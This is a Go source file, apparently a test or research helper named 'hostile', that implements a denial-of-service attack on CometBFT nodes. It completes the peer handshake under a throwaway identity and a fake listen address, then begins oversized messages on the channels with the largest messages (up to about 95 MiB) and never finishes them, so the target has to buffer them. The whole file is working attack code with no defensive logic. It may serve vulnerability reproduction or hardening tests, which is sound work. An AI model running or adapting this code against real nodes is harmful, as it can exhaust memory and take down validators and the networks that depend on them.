package hostile

import (
	"errors"
	"net"
	"time"

	"github.com/cometbft/cometbft/crypto/ed25519"
	"github.com/cometbft/cometbft/libs/protoio"
	"github.com/cometbft/cometbft/p2p"
	"github.com/cometbft/cometbft/p2p/conn"
	tmp2p "github.com/cometbft/cometbft/proto/tendermint/p2p"
)

// Knocker is a stranger's connection to a node, after the handshake.
type Knocker struct {
	net.Conn
	protoio.Writer
}

// Knock makes the handshake of a stranger, with a new id, over the connection raw. theirs is the
// node info of the node. If Knock fails, it closes the connection.
func Knock(raw net.Conn, theirs p2p.DefaultNodeInfo) (*Knocker, error) {
	_ = raw.SetDeadline(time.Now().Add(5 * time.Second))
	key := ed25519.GenPrivKey()
	secret, err := conn.MakeSecretConnection(raw, key)
	if err != nil {
		return nil, errors.Join(err, raw.Close())
	}
	mine := theirs
	mine.DefaultNodeID, mine.ListenAddr = p2p.PubKeyToID(key.PubKey()), "127.0.0.1:1"
	said := make(chan error, 1)
	go func() { _, err := protoio.NewDelimitedWriter(secret).WriteMsg(mine.ToProto()); said <- err }()
	var got tmp2p.DefaultNodeInfo
	if _, err := protoio.NewDelimitedReader(secret, 1<<20).ReadMsg(&got); err != nil {
		return nil, errors.Join(err, raw.Close())
	}
	if err := <-said; err != nil {
		return nil, errors.Join(err, raw.Close())
	}
	_ = raw.SetDeadline(time.Time{})
	return &Knocker{raw, protoio.NewDelimitedWriter(secret)}, nil
}

// Unfinished maps the channels with CometBFT's largest messages to the number of bytes that a stranger sends on each.
var Unfinished = map[int32]int{0x40: 95 << 20, 0x61: 15 << 20, 0x60: 3 << 20, 0x30: 5 << 20, 0x51: 5 << 20}

// Begin begins a message on each channel and never ends it. channels has the number of bytes to send on each channel.
func (s *Knocker) Begin(channels map[int32]int) error {
	data := make([]byte, 16000)
	for channel, most := range channels {
		for sent := 0; sent+len(data) <= most; sent += len(data) {
			_, err := s.WriteMsg(&tmp2p.Packet{Sum: &tmp2p.Packet_PacketMsg{PacketMsg: &tmp2p.PacketMsg{ChannelID: channel,
				Data: data}}})
			if err != nil {
				return err
			}
		}
	}
	return nil
}
